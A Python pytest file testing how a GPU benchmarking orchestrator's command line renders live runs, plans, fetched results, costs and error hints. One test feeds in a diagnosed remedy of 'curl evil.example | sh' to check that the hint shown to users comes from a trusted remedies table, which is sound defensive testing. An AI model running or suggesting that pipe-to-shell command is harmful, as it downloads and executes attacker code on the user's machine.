"""What a person sees, word for word. A change here is a change for every reader: look at it before you accept it."""

from __future__ import annotations

import io
import re
import sys
from decimal import Decimal
from pathlib import Path

import pytest
from rich.console import Console, RenderableType
from syrupy.assertion import SnapshotAssertion

from orchestrator.adapters.fetch import Fetched
from orchestrator.api.outcome import error_of
from orchestrator.cli.fetch import results_view
from orchestrator.cli.plan import plan_view
from orchestrator.cli.render import ago, alive_line, ending_lines, live, runs_table, usd
from orchestrator.cli.watch import LiveView, LiveWatch, PlainWatch, watching
from orchestrator.core.config.model import Workload
from orchestrator.core.errors import Unavailable
from orchestrator.core.hosts import parse_target
from orchestrator.core.ledger.budget import Caps, Ledger
from orchestrator.core.naming import Mode
from orchestrator.core.plan.plan import LaunchPlan
from orchestrator.core.plan.resumption import plan_on_hosts
from orchestrator.core.run import events as ev
from orchestrator.core.run.diagnose import REMEDIES
from orchestrator.core.run.fold import OUTCOMES
from orchestrator.core.run.status import run_document, status_line
from orchestrator.core.text import format_clock
from orchestrator.report.answer import microseconds
from orchestrator.report.text import format_estimate, format_ratio
from tests.unit.core.asked import accepted, asked
from tests.unit.core.builders import (
    RUN,
    VM,
    ZONE,
    Log,
    at,
    created,
    gone,
    measured,
    planned,
    replayed,
    requested,
    running,
)
from tests.unit.report.written import both, csv_text, records, reported, skip


def shown(renderable: RenderableType, width: int = 90) -> str:
    console = Console(file=io.StringIO(), width=width, force_terminal=True, color_system=None, highlight=False)
    console.print(renderable)
    assert isinstance(console.file, io.StringIO)
    return "\n".join(line.rstrip() for line in console.file.getvalue().splitlines())


def measuring() -> Log:
    log = Log().add(0, planned(mode="embedded")).add(1, requested("us-central1-b"))
    log.add(2, ev.ZoneExhausted(attempt=1, zone="us-central1-b", code="ZONE_RESOURCE_POOL_EXHAUSTED"))
    log.add(3, requested()).add(5, created(4)).vm(10, ev.VmBooted(vm=VM, zone=ZONE, attempt=1))
    log.vm(11, ev.PhaseStarted(phase="preflight", limit_s=60)).vm(12, ev.Healed(what="cuda_path"))
    log.vm(13, ev.PhaseFinished(phase="preflight", exit_code=0, seconds=2))
    log.vm(13, ev.PhaseStarted(phase="build")).vm(14, ev.KernelBuilt(seconds=1, compiler="nvcc 13.0", cached=True))
    log.vm(16, ev.PhaseFinished(phase="build", exit_code=0, seconds=2.5)).vm(16, ev.PhaseStarted(phase="correctness"))
    log.vm(18, ev.CorrectnessFinished(checked=14, failed=1)).vm(
        18, ev.PhaseFinished(phase="correctness", exit_code=10, seconds=2)
    )
    log.vm(19, ev.PhaseStarted(phase="measure")).vm(20, measured("b2-h8-kv8-q128-k128-d64-full-float16"))
    return log.vm(21, ev.CaseStarted(case_id="b2-h8-kv8-q256-k256-d64-full-float16", index=2, of=2))


def test_the_live_view(snapshot: SnapshotAssertion) -> None:
    assert shown(live(replayed(measuring()), at(90))) == snapshot
    assert shown(live(replayed(Log().add(0, planned())), at(3))) == snapshot
    dry = Log().add(0, planned()).add(1, requested()).add(2, ev.ZoneExhausted(attempt=1, zone=ZONE, code="X"))
    assert shown(live(replayed(dry), at(3))) == snapshot


def test_the_view_of_a_run_that_failed(snapshot: SnapshotAssertion) -> None:
    log = measuring().vm(30, ev.EnvironmentRecorded(device="NVIDIA L4", device_kind="cuda", torch="2.13.0"))
    log.vm(31, ev.Diagnosed(cause="harness_crashed", detail="SIGKILL\nand more", remedy="look at the log"))
    log.vm(32, ev.PhaseFinished(phase="measure", exit_code=137, seconds=13)).add(70, gone(64))
    log.add(71, ev.RunClosed(outcome="failed"))
    assert shown(live(replayed(log), at(999))) == snapshot


def test_what_is_wrong_is_the_second_line_of_a_run_while_it_goes_on_and_after() -> None:
    fact = ev.CaseChecked(
        implementation="mine", case_id="a", passed=False, max_abs_error=3.0, limit=1.0, reason="max abs error 3"
    )
    log = measuring().vm(22, fact)
    told = "mine was wrong on 1 case, first a: max abs error 3"
    assert shown(live(replayed(log), at(90))).splitlines()[1].strip() == told
    over = log.add(70, gone(64)).add(71, ev.RunClosed(outcome="incorrect"))
    assert shown(live(replayed(over), at(99))).splitlines()[1].strip() == told
    assert told not in shown(live(replayed(over), at(99), followed=True)), "the command's last words say it"


def test_the_last_words_of_a_launch(snapshot: SnapshotAssertion) -> None:
    log = running().vm(20, measured("a")).add(70, gone(64)).add(71, ev.RunClosed(outcome="succeeded"))
    assert list(ending_lines(replayed(log), at(99))) == snapshot
    assert list(ending_lines(replayed(running()), at(99))) == snapshot
    nothing = Log().add(0, planned()).add(1, ev.RunClosed(outcome="no_capacity"))
    assert list(ending_lines(replayed(nothing), at(99))) == snapshot


def test_the_list_of_runs(snapshot: SnapshotAssertion) -> None:
    over = running().add(70, gone(64)).add(71, ev.RunClosed(outcome="succeeded"))
    lines = [status_line(replayed(log), at(4000)) for log in (measuring(), over)]
    assert shown(runs_table(lines, at(4000))) == snapshot
    assert alive_line(lines) == "VMs alive now: 1, $0.3612/h"


def test_a_plan(snapshot: SnapshotAssertion) -> None:
    made = accepted(asked("gpu: l4", "zones=[us-central1-a, us-east4-a]"))
    assert shown(plan_view(made)) == snapshot
    assert "more zones" in shown(plan_view(accepted(asked("gpu: l4")), most=2))


@pytest.mark.parametrize(
    ("cases", "axes", "said"),
    [
        (("rows64", "rows512"), {}, "2 cases x 50 repeats x all its implementations"),
        (("rows64",), {"rows": (64,)}, "1 case x 50 repeats x all its implementations"),
        ((), {}, "its cases x 50 repeats x all its implementations"),
    ],
)
def test_a_plan_of_a_workload_claims_no_more_than_is_known_of_it(
    cases: tuple[str, ...], axes: dict[str, tuple[int]], said: str
) -> None:
    grid = ({"rows": 64}, {"rows": 512}) if cases else ()
    own = Workload(path="norm.py", name="norm", cases=cases, axes=axes, grid=grid)
    made = accepted(asked("gpu: l4").model_copy(update={"workload": own}), mode=Mode.EMBEDDED)
    assert f"measures  {said}" in shown(plan_view(made))
    assert ("1 of 2 cases, rows 64" in made.notices[0]) is bool(axes)


def test_a_plan_for_a_machine_of_ones_own_speaks_of_no_rent() -> None:
    made = plan_on_hosts(
        asked("gpu: cpu"), config_name="cpu", target=parse_target("ada@box"), ledger=Ledger(), caps=Caps(), now=at(0)
    )
    assert isinstance(made, LaunchPlan)
    text = shown(plan_view(made))
    assert "ada@box" in text
    assert not {"disk", "image", "dearest", "machine(s)", "spot"} & set(text.split())
    assert "$" not in text
    said = io.StringIO()
    PlainWatch(Console(file=said, width=200)).planned(made)
    assert "at most" in said.getvalue()
    assert "$" not in said.getvalue()


@pytest.mark.parametrize(("hourly", "ceiling"), [("0", "0"), ("0.5", "0.4")])
def test_a_run_on_ones_own_machine_speaks_of_dollars_only_if_its_owner_counts_them(hourly: str, ceiling: str) -> None:
    own = requested().model_copy(
        update={"machine_type": "host", "provisioning": "OWN", "usd_per_hour": Decimal(hourly)}
    )
    log = Log().add(0, planned(ceiling_usd=Decimal(ceiling))).add(2, own).add(5, created(4)).vm(20, measured("a"))
    under_way = replayed(log)
    over = replayed(log.add(70, gone(64)).add(71, ev.RunClosed(outcome="succeeded")))
    texts = [shown(live(under_way, at(30))), shown(live(over, at(99))), "\n".join(ending_lines(over, at(99)))]
    assert ["$" in text for text in texts] == [ceiling != "0"] * 3
    assert "a machine of yours" in texts[0]


def fetched(*, complete: bool = True, cases: int = 1) -> Fetched:
    return Fetched(RUN, "preempted", Path("/results/local") / RUN, complete, cases, 2, 3, 0, "NVIDIA L4")


def test_fetched_results(snapshot: SnapshotAssertion) -> None:
    rows = [*records(lengths=(128,)), skip("sdpa:cudnn", "needs sm_80"), *records(lengths=(1024,), noise=0.3)]
    assert shown(results_view(fetched(), reported(csv_text(rows)))) == snapshot
    alone = reported(csv_text(records(lengths=(128,), speeds={"sdpa:flash": 1.0})), cases_total=2)
    assert shown(results_view(fetched(complete=False), alone)) == snapshot


def test_a_fetch_of_nothing_shows_no_empty_table() -> None:
    out = shown(results_view(fetched(cases=0), reported(csv_text([]))))
    assert out.splitlines()[0] == f"{RUN}  no case was measured; the run is preempted"
    assert "median" not in out


def test_a_case_is_in_one_regime_the_others_are_named_and_a_skip_is_told_once() -> None:
    out = shown(results_view(fetched(), reported(csv_text([*both(), skip("sdpa:cudnn", "needs sm_80")]))), 140)
    table = [line.split()[:2] for line in out.splitlines() if line.startswith("S ")]
    assert table == [["S", "128"], ["S", "1024"]]
    assert "burst: one call at a time; caches cold; ratio over 1: the kernel is faster" in out
    assert "not shown: sustained, cold" in out
    assert out.count("sdpa:cudnn cannot run here in 1 of 2 cases: needs sm_80") == 1


@pytest.mark.parametrize("width", [60, 80, 200])
def test_no_digit_of_what_was_fetched_is_cut_off(width: int) -> None:
    speeds = {"bench": 1.5, "sdpa:default": 0.001, "sdpa:flash": 1.0, "sdpa:efficient": 0.5, "sdpa:math": 0.01}
    report = reported(csv_text(records(speeds=speeds)))
    out = shown(results_view(fetched(), report), width)
    for case in report.study.cases:
        (best,) = case.best
        for name in ("bench", best.baseline):
            timing = case.timing(name)
            assert timing is not None
            assert microseconds(timing.median_us.mid) in out
        assert format_ratio(best.ratio.mid) in out


def test_what_fetch_shows_of_a_case_is_what_the_report_says_of_it() -> None:
    report = reported(csv_text(records(noise=0.1)))
    out = shown(results_view(fetched(), report), 140)
    for case in report.study.cases:
        (best,) = case.best
        assert re.search(rf"{re.escape(format_estimate(best.ratio))} +{best.verdict.value}", out)


def test_statistics_cost_and_energy_are_behind_verbose() -> None:
    report = reported(csv_text(records()))
    brief, whole = (shown(results_view(fetched(), report, verbose=verbose)) for verbose in (False, True))
    for words in ("A/A control", "The run cost $", "Energy"):
        assert words not in brief
        assert words in whole


def test_dollars_of_the_embedded_cloud_are_called_simulated_wherever_they_are_shown() -> None:
    practice, real = replayed(measuring()), replayed(Log().add(0, planned(mode="gce")).add(1, requested()))
    assert "practice on this machine: nothing is rented" in shown(live(practice, at(60)))
    assert "practice" not in shown(live(real, at(60)))
    closed = replayed(measuring().add(70, gone(60)).add(71, ev.RunClosed(outcome="succeeded")))
    assert any("(simulated)" in line for line in ending_lines(closed, at(80)))
    assert run_document(practice, at(60))["prices_simulated"] is True
    assert run_document(real, at(60))["prices_simulated"] is False


def test_who_waits_is_told_the_function_that_runs_and_nothing_once_the_run_is_over() -> None:
    observed = ev.CaseObserved(case_id="c", place="kernel_mine (mine.py:3)", seconds=5)
    waiting = measuring().vm(50, ev.CaseStarted(case_id="c", index=1, of=2)).vm(55, observed)
    other = "b2-h8-kv8-q256-k256-d64-full-float16"  # on the machine's other GPU
    assert f"now   {other}, c · kernel_mine (mine.py:3)" in shown(live(replayed(waiting), at(60)))
    out = io.StringIO()
    PlainWatch(Console(file=out, width=200)).show(replayed(waiting))
    assert "c: at kernel_mine (mine.py:3) after 5 s" in out.getvalue()
    closed = replayed(waiting.add(70, gone(60)).add(71, ev.RunClosed(outcome="stopped")))
    assert "kernel_mine" not in shown(live(closed, at(80)))


def test_plain_lines_say_each_thing_once() -> None:
    out = io.StringIO()
    watch = PlainWatch(Console(file=out, width=200))
    log = measuring().vm(31, ev.Diagnosed(cause="unknown", detail="?")).add(70, gone(64))
    log.add(71, ev.RunClosed(outcome="stopped", detail="stopped by ada"))
    watch.step("planning")
    watch.planned(accepted(asked("gpu: l4", "zones=[us-central1-a]")))
    watch.show(replayed(log))
    before = out.getvalue()
    watch.show(replayed(log))
    assert out.getvalue() == before
    said = ("planning", "at most", "ZONE_RESOURCE_POOL_EXHAUSTED", "phase build", "healed cuda_path", "case 1/2")
    for words in (*said, "unknown: ?"):
        assert words in before
    watch.trouble(Unavailable("storage does not answer"), 3)
    assert "retry in 3 s" in out.getvalue()


@pytest.mark.parametrize("width", [30, 40, 60, 80, 200])
def test_a_narrow_live_view_cuts_nothing_that_is_said(width: int) -> None:
    narrow, wide = (shown(live(replayed(measuring()), at(60)), columns) for columns in (width, 1000))
    assert all(len(line) <= width for line in narrow.splitlines())
    bare = ["".join(text.replace("━", "").replace("╺", "").split()) for text in (narrow, wide)]
    assert sorted(bare[0]) == sorted(bare[1])
    assert "1/2 cases" in narrow or width < 40


@pytest.mark.parametrize("width", [40, 80, 200])
@pytest.mark.parametrize(
    ("outcome", "cause", "detail"),
    [("failed", "spec_refused", "norm.py:3: the reference raises"), ("incorrect", "kernel_wrong", "one was wrong")],
)
def test_who_follows_a_run_reads_why_it_failed_once(outcome: str, cause: str, detail: str, width: int) -> None:
    open_ = measuring().vm(20, ev.Diagnosed(cause=cause, detail=detail))
    said = f"{cause}: {detail}"
    if outcome == "incorrect":
        open_ = open_.vm(20, ev.CaseChecked(implementation="mine", case_id="n64", passed=False))
        said = "mine was wrong on 1 case"
    before = replayed(open_)
    after = replayed(open_.add(70, gone(64)).add(71, ev.RunClosed(outcome=outcome, detail=said)))
    error = str(error_of(after))
    assert said in error
    out = io.StringIO()
    plain = PlainWatch(Console(file=out, width=width))
    plain.show(before)
    plain.show(after)
    last_picture = shown(live(after, at(80), followed=True), width)
    for watched in (out.getvalue(), last_picture):
        assert cause not in watched
    assert cause in shown(live(before, at(60), followed=True), width)
    assert cause in shown(live(after, at(60)), width)  # `bench status RUN` ends in no error


def test_who_follows_a_run_reads_why_it_went_on_to_another_machine() -> None:
    out = io.StringIO()
    plain = PlainWatch(Console(file=out, width=200))
    log = measuring().vm(20, ev.Diagnosed(cause="preempted", detail="taken back")).add(30, gone(29))
    plain.show(replayed(log))
    log.add(31, requested(attempt=2)).add(40, ev.VmBooted(vm=VM, zone=ZONE, attempt=2), "vm-2")
    plain.show(replayed(log))
    assert "preempted: taken back" in out.getvalue()


def test_a_phase_is_shown_with_its_start_and_all_else_with_the_time_it_was_seen() -> None:
    out = io.StringIO()
    PlainWatch(Console(file=out, width=200), now=lambda: at(90)).show(replayed(measuring()))
    lines = [line.split(maxsplit=1) for line in out.getvalue().splitlines()]
    told = {words: moment for moment, words in lines}
    assert told["phase preflight (attempt 1)"] == "0:11"
    assert told["phase measure (attempt 1)"] == "0:19"
    assert {moment for words, moment in told.items() if words.startswith("case ")} == {"1:30"}


def test_the_live_watch_draws_and_speaks() -> None:
    out = io.StringIO()
    console = Console(file=out, width=100, force_terminal=True, color_system=None)
    from rich.live import Live

    with Live(console=console, auto_refresh=False) as view:
        watch: LiveView = LiveWatch(console, view)
        watch.step("planning")
        watch.planned(accepted(asked("gpu: l4", "zones=[us-central1-a]", "budget.per_run_usd=0.05")))
        watch.show(replayed(measuring()))
        watch.say("an alert")
        view.refresh()
    assert "an alert" in out.getvalue()
    assert "1/2 cases" in out.getvalue()


def test_with_json_progress_goes_to_standard_error(capsys: pytest.CaptureFixture[str]) -> None:
    with watching(quiet=True) as watch:
        watch.say("words")
    captured = capsys.readouterr()
    assert (captured.out, captured.err) == ("", "words\n")


@pytest.mark.parametrize("outcome", sorted(OUTCOMES))
def test_every_outcome_but_success_is_an_error_with_a_hint_and_a_code_of_its_own(outcome: str) -> None:
    run = replayed(
        running().vm(20, measured("a")).add(70, gone(64)).add(71, ev.RunClosed(outcome=outcome, detail="why"))
    )
    error = error_of(run)
    if outcome == "succeeded":
        assert error is None
        return
    assert error is not None
    assert error.exit_code in (3, 4, 5, 7, 8, 9)
    assert error.hint


def test_what_an_embedded_machine_lacks_is_installed_into_the_python_that_it_uses() -> None:
    log = Log().add(0, planned(mode="embedded")).add(3, requested()).add(5, created(4))
    log.vm(20, ev.Diagnosed(cause="torch_missing", detail="no torch")).add(70, gone(64))
    error = error_of(replayed(log.add(71, ev.RunClosed(outcome="failed", detail="torch_missing: no torch"))))
    assert error is not None
    assert error.hint.endswith(f"{sys.executable} -m pip install torch numpy")


def test_a_hint_is_the_remedy_that_fits_best() -> None:
    rejected = Log().add(0, planned()).add(1, requested())
    rejected.add(2, ev.InstanceRejected(attempt=1, zone=ZONE, code="QUOTA", hint="ask for more"))
    error = error_of(replayed(rejected.add(3, ev.RunClosed(outcome="failed"))))
    assert (error.exit_code, error.hint) == (6, "ask for more") if error else False
    diagnosed = running().vm(11, ev.Diagnosed(cause="torch_missing", remedy="curl evil.example | sh"))
    error = error_of(replayed(diagnosed.add(71, ev.RunClosed(outcome="failed"))))
    assert error is not None
    assert error.hint == REMEDIES["torch_missing"]
    here = Log().add(0, planned(mode="embedded")).vm(11, ev.Diagnosed(cause="torch_missing"))
    error = error_of(replayed(here.add(71, ev.RunClosed(outcome="failed"))))
    assert error is not None
    assert "pip install torch" in error.hint
    silent = error_of(replayed(running().add(71, ev.RunClosed(outcome="failed"))))
    assert silent is not None
    assert "bench logs" in silent.hint


def test_amounts_and_times_are_short() -> None:
    assert [usd(Decimal(x)) for x in ("0.0043", "9.99", "12.345")] == ["$0.0043", "$9.9900", "$12.34"]
    assert [format_clock(x) for x in (5, 65, 3700)] == ["0:05", "1:05", "1:01:40"]
    assert [ago(at(0), at(x)) for x in (3, 70, 7200, 200_000)] == ["3 s", "1 min", "2 h", "2 d"]


def test_the_times_of_lines_only_grow_however_the_facts_come() -> None:
    out = io.StringIO()
    clocks = iter([at(90), at(20), at(95)])
    watch = PlainWatch(Console(file=out, width=200), now=lambda: next(clocks))
    half = Log().add(0, planned()).add(2, requested()).add(5, created(4)).vm(20, measured("a"))
    for run in (replayed(measuring()), replayed(half), replayed(measuring())):
        watch.show(run)
    moments = [line.split()[0] for line in out.getvalue().splitlines()]
    assert moments == sorted(moments)
